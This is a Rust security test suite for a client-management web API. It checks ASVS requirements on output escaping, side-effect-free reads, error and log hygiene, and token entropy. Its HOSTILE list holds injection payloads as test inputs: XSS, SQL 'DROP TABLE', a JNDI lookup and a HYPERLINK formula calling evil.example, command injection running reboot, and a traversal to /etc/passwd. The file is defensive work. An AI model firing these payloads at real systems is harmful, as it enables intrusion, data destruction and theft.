//! What answers contain and leave out, whatever was sent.

use std::{
    collections::BTreeSet,
    io::{self, Write},
    sync::{Arc, Mutex},
};

use actix_web::http::Method;
use diesel_async::SimpleAsyncConnection;
use liaison::logging;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::{Value, json};

use crate::{
    calls::{Target, World, call, operations},
    harness::TestApp,
};

/// Texts that have a special meaning for some interpreter.
const HOSTILE: [&str; 16] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE clients; --",
    "x' OR '1'='1",
    "\",\"is_key\":true,\"x\":\"",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}<%= 7*7 %>#{7*7}",
    "%253Cb%253E&lt;b&gt;\\u003cb\\u003e",
    "%s%n%x{0}{}",
    "*)(uid=*))(|(uid=*",
    "$(reboot);`reboot`|reboot",
    "../../../../etc/passwd",
    "=HYPERLINK(\"http://evil.example\")",
    "(a+)+$[^]*",
    "Content-Length: 0 \\r\\n\\r\\n GET /",
    "one\u{2028}line\u{2029}and end",
];

async fn world() -> World {
    World::over(TestApp::start().await).await
}

/// Such texts are stored, found and returned as text: they are decoded once and escaped once, at the end.
///
/// ASVS 1.1.1, 1.1.2, 1.2.1, 1.2.3, 1.2.4
#[actix_web::test]
async fn text_of_other_languages_is_only_text() {
    let world = world().await;
    let mut made = Vec::new();
    for (number, text) in HOSTILE.iter().enumerate() {
        let body = json!({"kind": "organization", "name": text, "tags": [text], 
            "external_ids": [{"source": "x", "id": format!("{number}{text}")}]});
        let answer = world.ann.post("/v1/clients", body).await;
        assert_eq!(answer.header("content-type"), Some("application/json"));
        made.push((format!("{number}{text}"), *text, answer.created()));
    }
    for (external_id, text, client) in &made {
        let read = world.ann.get(client["path"].as_str().unwrap()).await.ok();
        assert_eq!((&read["name"], &read["tags"], &read["is_key"]), (&json!(text), &json!([text]), &json!(false)));
        let encoded = |text: &str| utf8_percent_encode(text, NON_ALPHANUMERIC).to_string();
        for (query, exact) in [
            (format!("tag={}", encoded(text)), true),
            (format!("external_id={}", encoded(external_id)), true),
            (format!("q={}", encoded(text)), false),
        ] {
            let page = world.ann.get(&format!("/v1/clients?{query}")).await.ok();
            let found: Vec<&Value> = page["data"].as_array().unwrap().iter().map(|item| &item["id"]).collect();
            assert!(found.contains(&&client["id"]), "{query} finds {found:?}");
            assert!(!exact || found.len() == 1, "{query} finds {found:?}");
        }
    }
    assert_eq!(world.app.count("clients").await, i64::try_from(made.len()).unwrap());
}

/// What is written down in the audit log when it is read.
const RECORDED: [&str; 2] = ["get_client_personal_data", "get_contact_personal_data"];

/// A GET changes nothing, so an attacker cannot change anything by making someone open a link or an image.
///
/// ASVS 3.5.3
#[actix_web::test]
async fn what_is_read_changes_nothing() {
    let world = world().await;
    for operation in operations().into_iter().filter(|operation| operation.is_safe() && !operation.is_public()) {
        let call = call(&world, operation.id, Target::Key).await;
        let is_compared = |row: &String| !RECORDED.contains(&operation.id) || !row.starts_with("audit_");
        let before: Vec<String> = rows(&world.app).await.into_iter().filter(is_compared).collect();
        let answer = world.sue.send(call.request(&operation, &world.sue)).await;
        assert!(matches!(answer.status, 200 | 404), "{}: {:?}", operation.id, answer.body);
        let after: Vec<String> = rows(&world.app).await.into_iter().filter(is_compared).collect();
        assert_eq!(after, before, "{}", operation.id);
    }
}

/// A digest of each table, except for the tables that record when something was last used.
async fn rows(app: &TestApp) -> Vec<String> {
    let named = "SELECT tablename::text AS value FROM pg_tables WHERE schemaname = 'public' \
                 AND tablename NOT IN ('sessions', 'api_keys') ORDER BY 1";
    let digest = |table: &String| {
        format!(
            "SELECT '{table} ' || coalesce(md5(string_agg(t::text, ',' ORDER BY t::text)), '') AS value FROM \"{table}\" t"
        )
    };
    let tables: Vec<String> = app.text(named).await.iter().map(digest).collect();
    assert!(tables.len() > 10);
    app.text(&tables.join(" UNION ALL ")).await
}

/// ASVS 4.1.1
#[actix_web::test]
async fn every_text_says_its_charset() {
    let app = TestApp::start().await;
    let page = app.anonymous().get("/docs/").await;
    let text = String::from_utf8(page.body.to_vec()).unwrap();
    let is_text = |part: &&str| [Some("css"), Some("js")].contains(&part.rsplit_once('.').map(|(_, ending)| ending));
    let parts: BTreeSet<&str> = text.split('"').filter(is_text).map(|part| part.trim_start_matches("./")).collect();
    assert!(parts.len() >= 3, "{parts:?}");
    for path in parts.into_iter().map(|part| format!("/docs/{part}")).chain(["/docs/".to_owned()]) {
        let answer = app.anonymous().get(&path).await;
        let kind = answer.header("content-type").unwrap();
        assert!(answer.status == 200 && kind.ends_with("; charset=utf-8"), "{path}: {} {kind}", answer.status);
    }
}

#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl Write for Log {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().write(bytes)
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// ASVS 16.3.4, 16.5.1
#[actix_web::test]
async fn an_unexpected_error_is_logged_and_tells_the_caller_nothing() {
    let world = world().await;
    world.app.db().await.batch_execute("ALTER TABLE products RENAME TO gone").await.unwrap();
    let log = Log::default();
    let writer = log.clone();
    let subscriber =
        tracing_subscriber::fmt().with_env_filter(logging::filter("info").unwrap()).with_writer(move || writer.clone());
    let logging = tracing::subscriber::set_default(subscriber.finish());
    let answer = world.sue.get("/v1/products?q=canary").await;
    drop(logging);
    let id = answer.header("x-request-id").unwrap().to_owned();
    let problem = answer.problem(500, "internal");
    for inner in ["relation", "SELECT", "gone", "src/"] {
        assert!(!problem.to_string().contains(inner), "{problem}");
    }
    let logged = String::from_utf8(log.0.lock().unwrap().clone()).unwrap();
    assert!(logged.contains("ERROR") && logged.contains("relation") && logged.contains(&id), "{logged}");
}

/// ASVS 16.3.3: a refused request is logged with its code, but without its content.
#[actix_web::test]
async fn a_refused_request_is_logged_without_what_was_sent() {
    let world = world().await;
    let log = Log::default();
    let writer = log.clone();
    let subscriber =
        tracing_subscriber::fmt().with_env_filter(logging::filter("info").unwrap()).with_writer(move || writer.clone());
    let logging = tracing::subscriber::set_default(subscriber.finish());
    let answer = world.sue.post("/v1/teams", json!({"name": "canary".repeat(100)})).await;
    drop(logging);
    let id = answer.header("x-request-id").unwrap().to_owned();
    answer.problem(422, "validation_failed");
    let logged = String::from_utf8(log.0.lock().unwrap().clone()).unwrap();
    assert!(logged.contains(&id) && logged.contains("validation_failed"), "{logged}");
    assert!(!logged.contains("canary"), "{logged}");
}

/// ASVS 7.2.3, 11.5.1
#[actix_web::test]
async fn a_refresh_token_has_256_bits_and_is_never_the_same() {
    let world = world().await;
    let user = world.user().await;
    let mut seen = BTreeSet::new();
    for _ in 0..8 {
        let token = sign_in(&world, &user).await["refresh_token"].as_str().unwrap().to_owned();
        // 43 characters of base64 hold 256 bits.
        assert_eq!(token.len(), 43);
        assert!(token.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_'), "{token}");
        seen.insert(token);
    }
    assert_eq!(seen.len(), 8);
}

/// ASVS 6.2.10
#[actix_web::test]
async fn a_password_does_not_grow_old() {
    let world = world().await;
    let user = world.user().await;
    world.app.advance(chrono::Duration::days(5 * 365));
    assert!(sign_in(&world, &user).await["access_token"].is_string());
}

async fn sign_in(world: &World, user: &Value) -> Value {
    let form = [
        ("grant_type", "password"),
        ("username", user["email"].as_str().unwrap()),
        ("password", "correct horse battery staple"),
    ];
    let request = world.app.anonymous().request(Method::POST, "/v1/auth/token").set_form(form);
    world.app.send(request).await.ok()
}
